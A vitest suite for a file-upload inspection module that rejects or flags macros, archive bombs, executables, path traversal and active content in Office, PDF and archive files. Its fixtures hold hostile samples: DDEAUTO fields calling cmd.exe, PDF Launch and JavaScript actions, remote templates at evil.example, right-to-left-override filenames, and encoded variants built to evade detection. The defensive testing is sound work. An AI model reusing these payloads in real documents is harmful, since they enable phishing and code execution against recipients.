import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { archiveLimits } from '#contract/files.ts';
import { inspect } from '#server/platform/inspection/inspect.ts';
import { compoundFile, lockedZip, pdfOf, rarOf, wordStreams, zipOf } from './documents.ts';

type Content = string | (() => Buffer | Promise<Buffer>);
type Cases = [about: string, content: () => Buffer | Promise<Buffer>][];

const MEBIBYTE = 1024 * 1024;
const zeros = (mebibytes: number) => Buffer.alloc(mebibytes * MEBIBYTE);
const text = Buffer.from('The registration certificate.');
const document = { '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>' };

const zipWith = (files: Record<string, Content>) => async () => {
  const contents = Object.entries(files).map(async ([name, content]) => [
    name,
    typeof content === 'string' ? content : await content(),
  ]);
  return zipOf(Object.fromEntries(await Promise.all(contents)));
};
const docxWith = (parts: Record<string, Content>) => zipWith({ ...document, ...parts });
const withMacros = docxWith({ 'word/vbaProject.bin': 'VBA' });
const wordWithMacros = () =>
  compoundFile({ ...wordStreams(), '/Macros/VBA/dir': Buffer.alloc(64, 1) });
/** A zip whose headers say 10 bytes instead of 10 MiB. */
async function lyingZip() {
  const zip = await zipOf({ 'a.txt': zeros(10) });
  const size = Buffer.alloc(4);
  size.writeUInt32LE(zeros(10).length);
  for (let at = zip.indexOf(size); at >= 0; at = zip.indexOf(size, at + 4))
    zip.writeUInt32LE(10, at);
  return zip;
}
const many = Object.fromEntries(
  Array.from({ length: archiveLimits.maxMembers + 1 }, (_, index) => [`${index}.txt`, '']),
);
/** A workbook of Excel 97 whose first sheet has this type. */
const workbookOf = (type: number) => () => {
  const workbook = Buffer.alloc(4096);
  workbook.set([0x09, 0x08, 2, 0, 0, 6, 0x85, 0, 8, 0, 0, 0, 0, 0, 0, type]);
  return compoundFile({ '/Workbook': workbook });
};
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
  `<Relationships><Relationship Id="r1" Type="${RELATION}/${type}" Target="${target}" ${mode}/></Relationships>`;
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

describe('an inspection rejects a whole file:', () => {
  it.each<[reason: string, name: string, content: () => Buffer | Promise<Buffer>]>([
    ['macros', 'a.docx', withMacros],
    ['macros', 'a.doc', wordWithMacros],
    // Under an unusual name.
    [
      'macros',
      'a.docx',
      docxWith({ 'word/_rels/document.xml.rels': relation('vbaProject', 'a.png', '') }),
    ],
    ['otherType', 'a.pdf', () => text],
    ['otherType', 'a.doc', () => compoundFile({ '/Workbook': text })],
    ['otherType', 'a.doc', () => compoundFile({ '/WordDocument': Buffer.alloc(4096) })],
    // Unpacks to 100 times its size.
    ['archive', 'a.zip', () => zipOf({ 'a.txt': zeros(64) })],
    ['archive', 'a.zip', lyingZip],
    ['archive', 'a.zip', () => zipOf(many)],
    // Declares a terabyte.
    ['archive', 'a.rar', () => rarOf({ name: 'a.txt', content: text, size: 2 ** 40 })],
  ])('%s in %s', async (rejected, name, content) => {
    expect(await inspect(name, await content())).toEqual({ rejected, inside: null });
  });
});

const compound = 'doc dot xls xla xlt ppt pps pot'.split(' ');
const office = 'docx docm dotm xlsx xlsm xlsb xltm xlam pptx pptm ppsm potm ppam'.split(' ');
const packedKinds = '7z ace arj bz2 cab gz img iso jar lzh tar tgz vhd vhdx xz zipx zst'.split(' ');
const programKinds =
  'chm hlp desktop diagcab xbap rdp fileloc inetloc terminal appcontent-ms theme apk pl rb php so';

/** Rejected members of an archive or a document, by reason. */
const rejectedMembers: Record<string, [member: string, content: Content][]> = {
  macros: [
    ...compound.map((kind): [string, Content] => [`a.${kind}`, wordWithMacros]),
    ...office.map((kind): [string, Content] => [`a.${kind}`, withMacros]),
    // A document of the other format.
    ['old.doc', withMacros],
    ['new.docx', wordWithMacros],
    ['x/a.docm', withMacros],
    ['__MACOSX/a.docm', withMacros],
    ['x/~$a.docm', withMacros],
    ['a.docm ', withMacros],
    ['sheet.xlsm', zipWith({ 'xl/macrosheets/sheet1.xml': '<f>EXEC("calc")</f>' })],
    ['sheet.xls', workbookOf(1)],
    ['a.odt', zipWith({ 'Basic/Standard/Module1.xml': '<module/>' })],
  ],
  archive: [
    ...packedKinds.map((kind): [string, Content] => [`a.${kind}`, 'EICAR']),
    ['x/b.rar', () => rarOf({ name: 'a.txt', content: text })],
  ],
  program: [
    'setup.exe',
    'letter.pdf.JS',
    'a.lnk',
    'a.hta',
    'x/a.scr. ',
    'a.vbs',
    'a.url',
    ...programKinds.split(' ').map((kind) => `a.${kind}`),
    'a.exe\u200b',
    'a.exe\u00a0.\u2060',
    'Setup.app/Contents/MacOS/Setup',
    'proof\u202efdp.exe',
    'proof\u202excod.png',
  ].map((name) => [name, 'MZ']),
  path: ['../../etc/passwd', '..\\a.txt', '/etc/passwd', 'C:/a.txt'].map((name) => [name, 'root']),
};

describe('an inspection rejects a member:', () => {
  it.each(
    Object.entries(rejectedMembers).flatMap(([rejected, members]) =>
      members.map(([inside, content]) => ({ rejected, inside, content })),
    ),
  )('$rejected in $inside inside a zip', async ({ rejected, inside, content }) => {
    const zip = await zipWith({ [inside]: content })();
    expect(await inspect('a.zip', zip)).toEqual({ rejected, inside });
  });

  const nested = docxWith({ 'word/embeddings/b.doc': wordWithMacros });
  it.each<[rejected: string, inside: string, name: string, content: Exclude<Content, string>]>([
    [
      'macros',
      'word/embeddings/a.docm',
      'a.docx',
      docxWith({ 'word/embeddings/a.docm': withMacros }),
    ],
    [
      'macros',
      'word/media/image1.png',
      'a.docx',
      docxWith({ 'word/media/image1.png': withMacros }),
    ],
    ['macros', 'word/embeddings/b.doc', 'a.docx', docxWith({ 'word/embeddings/a.docx': nested })],
    ['macros', 'a.doc', 'a.rar', () => rarOf({ name: 'a.doc', content: wordWithMacros() })],
    [
      'archive',
      'b.zip',
      'a.zip',
      zipWith({ 'a.zip': zipWith({ 'b.zip': zipWith({ 'c.txt': 'c' }) }) }),
    ],
    ['program', 'a.exe', 'a.rar', () => rarOf({ name: 'a.exe' })],
    ['program', 'word/embeddings/a.exe', 'a.docx', docxWith({ 'word/embeddings/a.exe': 'MZ' })],
    ['path', '../a.txt', 'a.rar', () => rarOf({ name: '../a.txt' })],
  ])('%s in %s of %s', async (rejected, inside, name, content) => {
    expect(await inspect(name, await content())).toEqual({ rejected, inside });
  });
});

const withFields = (xml: string) => ({ 'word/document.xml': `<w:document>${xml}</w:document>` });
const settingsRelation = (xml: string) => ({ 'word/_rels/settings.xml.rels': xml });
const documentRelation = (xml: string) => ({ 'word/_rels/document.xml.rels': xml });
const template = relation('attachedTemplate', 'https://evil.example/a.dotm');
const utf16 = (isBigEndian: boolean) => () => {
  const wide = Buffer.from(`\ufeff${template}`, 'utf16le');
  return isBigEndian ? wide.swap16() : wide;
};
const activeParts: Record<string, Record<string, Content>> = {
  'a template elsewhere': settingsRelation(template),
  'a template elsewhere in UTF-16, big endian': { 'word/_rels/settings.xml.rels': utf16(true) },
  'a template elsewhere in UTF-16, little endian': { 'word/_rels/settings.xml.rels': utf16(false) },
  'a picture on another machine': documentRelation(
    relation('image', 'file:///\\\\evil.example\\a.png'),
  ),
  'another format inside (altChunk)': documentRelation(relation('aFChunk', 'a.mht', '')),
  'an embedded object': { 'word/embeddings/oleObject1.bin': 'OLE' },
  'a document as an object': documentRelation(relation('package', 'embeddings/a.docx', '')),
  'a program inside under another name': { 'word/embeddings/a.dat': 'MZ\u0090' },
  'a control': { 'word/activeX/activeX1.bin': 'OLE' },
  'a field that runs a command': withFields('<w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>'),
  'a field that runs a command, split into several runs': withFields(
    '<w:instrText>D</w:instrText><w:instrText xml:space="preserve">DE</w:instrText><w:instrText> cmd</w:instrText>',
  ),
  'a template elsewhere whose address looks like a link': settingsRelation(
    relation('attachedTemplate', "https://evil.example/hyperlink'"),
  ),
  'a template elsewhere, after a > in an attribute': settingsRelation(
    relation('attachedTemplate', 'https://evil.example/>a.dotm'),
  ),
  'a template elsewhere, by character references': settingsRelation(
    relation('&#x61;ttachedTemplate', 'https://evil.example/a.dotm', 'TargetMode="Extern&#97;l"'),
  ),
  'an object under an unusual name': documentRelation(
    relation('oleObject', 'embeddings/picture.png', ''),
  ),
  'a field under another prefix': withFields(
    '<x:instrText xmlns:x="w">DDE</x:instrText><x:instrText>AUTO c:\\cmd</x:instrText>',
  ),
  'a field of one element under another prefix': withFields('<é:fldSimple é:instr="DDEAUTO c"/>'),
  'a field in a main part elsewhere': { 'doc/main.xml': '<w:fldSimple w:instr="DDEAUTO c"/>' },
  'a field in a part with another extension': {
    'word/main.foo': '\n<w:fldSimple w:instr="DDEAUTO c"/>',
  },
  'a template elsewhere under another prefix': settingsRelation(
    relation('attachedTemplate', 'https://evil.example').replaceAll(/(<\/?)R/g, '$1a-b:R'),
  ),
  'a field in the glossary': {
    'word/glossary/document.xml': "<w:fldSimple w:instr='DDEAUTO c:\\cmd.exe'/>",
  },
  'a field that loads a picture': withFields(
    '<w:instrText>INCLUDEPICTURE "\\\\evil\\a"</w:instrText>',
  ),
};
/** A table stream with UTF-16 text, as the binary format stores it. */
const withTable = (typed: string) => {
  const table = Buffer.alloc(4096);
  table.write(typed, 1024, 'utf16le');
  return compoundFile({ ...wordStreams(), '/1Table': table });
};
const withText = (typed: string) => {
  const streams = wordStreams();
  streams['/WordDocument']?.write(typed, 2048, 'utf16le');
  return compoundFile(streams);
};

/** A PDF whose one page has these entries; the other objects have numbers from 12. */
const pdfPage = (entries: string, ...objects: string[]) =>
  pdfOf(
    '/Pages 10 0 R',
    '<< /Type /Pages /Kids [11 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 10 0 R /MediaBox [0 0 9 9] ${entries} >>`,
    ...objects,
  );
const link = (entries: string) => pdfPage('/Annots [12 0 R]', `<< /Type /Annot ${entries} >>`);
const packed = (content: string | Buffer) =>
  `<< /Type /ObjStm /N 1 /First 5 >>\nstream\n${deflateSync(content).toString('latin1')}\nendstream`;
const LAUNCH = '10 0 << /S /Launch /F (cmd.exe) >>';
const attachedFile = (from: number) => [
  `<< /Type /Filespec /F (a.exe) /EF << /F ${from} 0 R >> >>`,
  '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
];
const locked = () => compoundFile({ '/EncryptedPackage': Buffer.alloc(64) });

/** Marked files, by marks and name. */
const marked: Record<string, Record<string, Cases>> = {
  password: {
    'a.docx': [['with a password', locked]],
    'a.zip': [
      ['with a password', lockedZip],
      ['with a workbook with a password', zipWith({ 'a.xlsx': locked })],
    ],
  },
  unreadable: {
    'a.pdf': [
      [
        'with a packed object whose dictionary is long',
        () => pdfOf('', packed('10 0 << /S /Launch >>').replace('/N 1', `/N 1${' '.repeat(2000)}`)),
      ],
      [
        'with a packed object that is compressed in another way',
        () => pdfOf('', '<< /Type /ObjStm /N 1 /First 5 >>\nstream\nLaunch?\nendstream'),
      ],
      ['whose packed objects exceed the limit', () => pdfOf('', packed(zeros(20)).repeat(3))],
      ['that is damaged', () => Buffer.from('%PDF-1.7\n')],
    ],
    'a.zip': [
      ['that is damaged', () => Buffer.from('PK\u0003\u0004')],
      [
        'with a document that does not match its extension',
        zipWith({ 'a.pdf': () => pdfOf(), 'letter.doc': '{\\rtf1 Letter}' }),
      ],
    ],
  },
  'script unreadable': {
    'a.zip': [
      [
        'with an HTML page named as a workbook',
        zipWith({ 'drives.xls': '<html><script>run()</script>' }),
      ],
    ],
  },
  attachment: {
    'a.pdf': [
      [
        'with an associated file',
        () =>
          pdfOf(
            '/AF [10 0 R]',
            '<< /Type /Filespec /F (a.exe) /E#46 << /F 11 0 R >> >>',
            '<< /Length 2 >>\nstream\nMZ\nendstream',
          ),
      ],
      [
        'with an attached file',
        () => pdfOf('/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>', ...attachedFile(11)),
      ],
      [
        'with a file in a note on its second page',
        () =>
          pdfOf(
            '/Pages 10 0 R',
            '<< /Type /Pages /Kids [3 0 R 11 0 R] /Count 2 >>',
            '<< /Type /Page /Parent 10 0 R /MediaBox [0 0 200 200] /Annots [12 0 R] >>',
            '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 13 0 R >>',
            ...attachedFile(14),
          ),
      ],
    ],
  },
  script: {
    'a.docx': Object.entries(activeParts).map(([about, parts]) => [
      `with ${about}`,
      docxWith(parts),
    ]),
    'a.doc': [
      [
        'with an embedded object',
        () => compoundFile({ ...wordStreams(), '/ObjectPool/_1/\u0001Ole10Native': text }),
      ],
      [
        'with a field that runs a command',
        () => withText('\u0013 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \u0014'),
      ],
      ['with a template elsewhere', () => withTable('https://evil.example/a.dotm')],
    ],
    'a.zip': [
      ...[
        '<office:event-listeners><script:event-listener xlink:href="a"/></office:event-listeners>',
        '<draw:image xlink:href="http://evil.example/a.png"/>',
        '<draw:image draw:name=">" xlink:href="\\\\evil\\a.png"/>',
        '<text:section-source xlink:href="file://evil/a.odt"/>',
        '<style:background-image xlink:href="//evil/a.png"/>',
      ].map((xml): Cases[number] => [
        `with a document of LibreOffice with ${xml}`,
        zipWith({ 'a.odt': zipWith({ 'content.xml': '<a/>', 'styles.xml': `<o>${xml}</o>` }) }),
      ]),
      ...Object.entries({
        'a.htm': '<img src=x onerror=run()>',
        'a.html': '<html><script>',
        'a.svg': '<svg>',
        'object.rtf': '{\\rtf1 {\\object\\objdata 01}}',
        'template.rtf': '{\\rtf1{\\*  \\template http://evil.example}}',
        'a.xlsx': zipWith({
          'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd"/>',
        }),
        'a.pdf': () => pdfOf('/OpenAction 10 0 R', SCRIPT),
      }).map(([name, content]): Cases[number] => [`with ${name}`, zipWith({ [name]: content })]),
    ],
    'a.pdf': [
      ...[
        '/SubmitForm /F (http://evil.example)',
        '/ImportData /F (\\\\\\\\evil\\\\a)',
        '/GoToR /F (\\\\\\\\evil\\\\a.pdf)',
        '/GoToE /T << /R /C /N (a) >>',
        '/Rendition /R 11 0 R',
        '/L#61unch /F (cmd.exe)',
        '/#4c#61#75#6E#63#68#20/F (cmd.exe)',
      ].map((action): Cases[number] => [
        `with the action ${action}`,
        () => pdfOf('/OpenAction 10 0 R', `<< /S ${action} >>`),
      ]),
      ['that opens with a script', () => pdfOf('/OpenAction 10 0 R', SCRIPT)],
      ['with a program of media', () => pdfOf('', '<< /Type /Annot /Subtype /RichMedia >>')],
      ['with a script that opens its page', () => pdfPage(`/AA << /O ${SCRIPT} >>`)],
      [
        'with a script in a field of a page',
        () => link(`/Subtype /Widget /FT /Btn /T (a) /Rect [0 0 9 9] /AA << /U ${SCRIPT} >>`),
      ],
      [
        'with a script behind a link, with an encoded name',
        () =>
          link('/Subtype /Link /Rect [0 0 9 9] /A << /S /#4aavaScript /JS (app.alert\\(1\\)) >>'),
      ],
      [
        'with a script in its names',
        () => pdfOf('/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', SCRIPT),
      ],
      ['that starts a program, by a packed object', () => pdfOf('', packed(LAUNCH))],
      [
        'that starts a program, by the second of its packed objects',
        () => {
          const named = `/Title (about /ObjStm)${' '.repeat(5000)}`;
          return pdfOf('', `${named}\n${packed('10 0 << /Type /Page >>')}\n${packed(LAUNCH)}`);
        },
      ],
      [
        'that starts a program, by a packed object with an encoded type',
        () => pdfOf('', packed(LAUNCH).replace('/ObjStm', '/#4fbj#53tm')),
      ],
      [
        'with a form that has scripts of its own (XFA)',
        () =>
          pdfOf(
            '/AcroForm << /XFA 10 0 R /Fields [] >>',
            '<< /Length 6 >>\nstream\n<xdp/>\nendstream',
          ),
      ],
    ],
  },
  // Accepted without a mark.
  '': {
    'a.pdf': [
      ['', () => pdfOf()],
      [
        'with names that only begin like an action',
        () =>
          pdfOf('', '<< /Launcher 1 /#4c#61#75#6e#63#68#65#64 2 /Lunch 3 /L 4 /L#zzunch /#4 >>/#'),
      ],
      [
        'with an object stream that is not compressed',
        () => pdfOf('', '<< /Type /ObjStm /N 1 /First 5 >>\nstream\n10 0 << /A 1 >>\nendstream'),
      ],
      ['full of streams without an end', () => pdfOf('', '/ObjStm stream\n'.repeat(1_000_000))],
    ],
    'a.docx': [
      ['', docxWith({})],
      [
        'with links and a chart',
        docxWith({
          'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.eu'),
          'word/charts/_rels/chart1.xml.rels': relation('package', '../embeddings/a.xlsx', ''),
          'word/embeddings/a.xlsx': zipWith({ 'xl/workbook.xml': '<workbook/>' }),
          'word/footer1.xml': '<w:instrText> PAGE </w:instrText>',
        }),
      ],
    ],
    'a.doc': [['', () => compoundFile(wordStreams())]],
    'a.rar': [['', () => rarOf({ name: 'a.png', content: text })]],
    'a.zip': [
      [
        'made on a Mac, with a lock file of Office',
        zipWith({
          'a.docx': docxWith({}),
          '__MACOSX/._a.doc': '\u0000\u0005\u0016\u0007',
          'x/~$a.doc': 'me',
        }),
      ],
      ['with an empty document', zipWith({ 'a.doc': '' })],
      ['with an old workbook', zipWith({ 'a.xls': workbookOf(0) })],
      [
        'with a document of LibreOffice with links and a picture',
        zipWith({
          'a.odt': zipWith({
            'content.xml':
              '<text:a xlink:type="simple" xlink:href="https://example.eu">a</text:a><draw:image xlink:href="Pictures/a.png"/>',
          }),
        }),
      ],
      [
        'of files whose names only contain an extension of programs',
        zipWith({ 'example.com/letter.txt': 'a', 'a.exe.txt': 'a', 'a.so.2026.png': 'a' }),
      ],
      ['of pictures', zipWith({ 'a.png': () => text, 'folder/b..png': () => text })],
      ['of text that packs well', zipWith({ 'a.txt': () => zeros(19) })],
      ['with a zip', zipWith({ 'a.zip': zipWith({ 'a.txt': 'a' }) })],
    ],
  },
};

it.each(
  Object.entries(marked).flatMap(([marks, files]) =>
    Object.entries(files).flatMap(([name, cases]) =>
      cases.map(([about, content]) => ({ marks, name, about, content })),
    ),
  ),
)('an inspection marks as «$marks» $name $about', async ({ marks, name, content }) => {
  const expected = marks.split(' ').filter(Boolean);
  expect(await inspect(name, await content())).toEqual({ rejected: null, marks: expected });
});
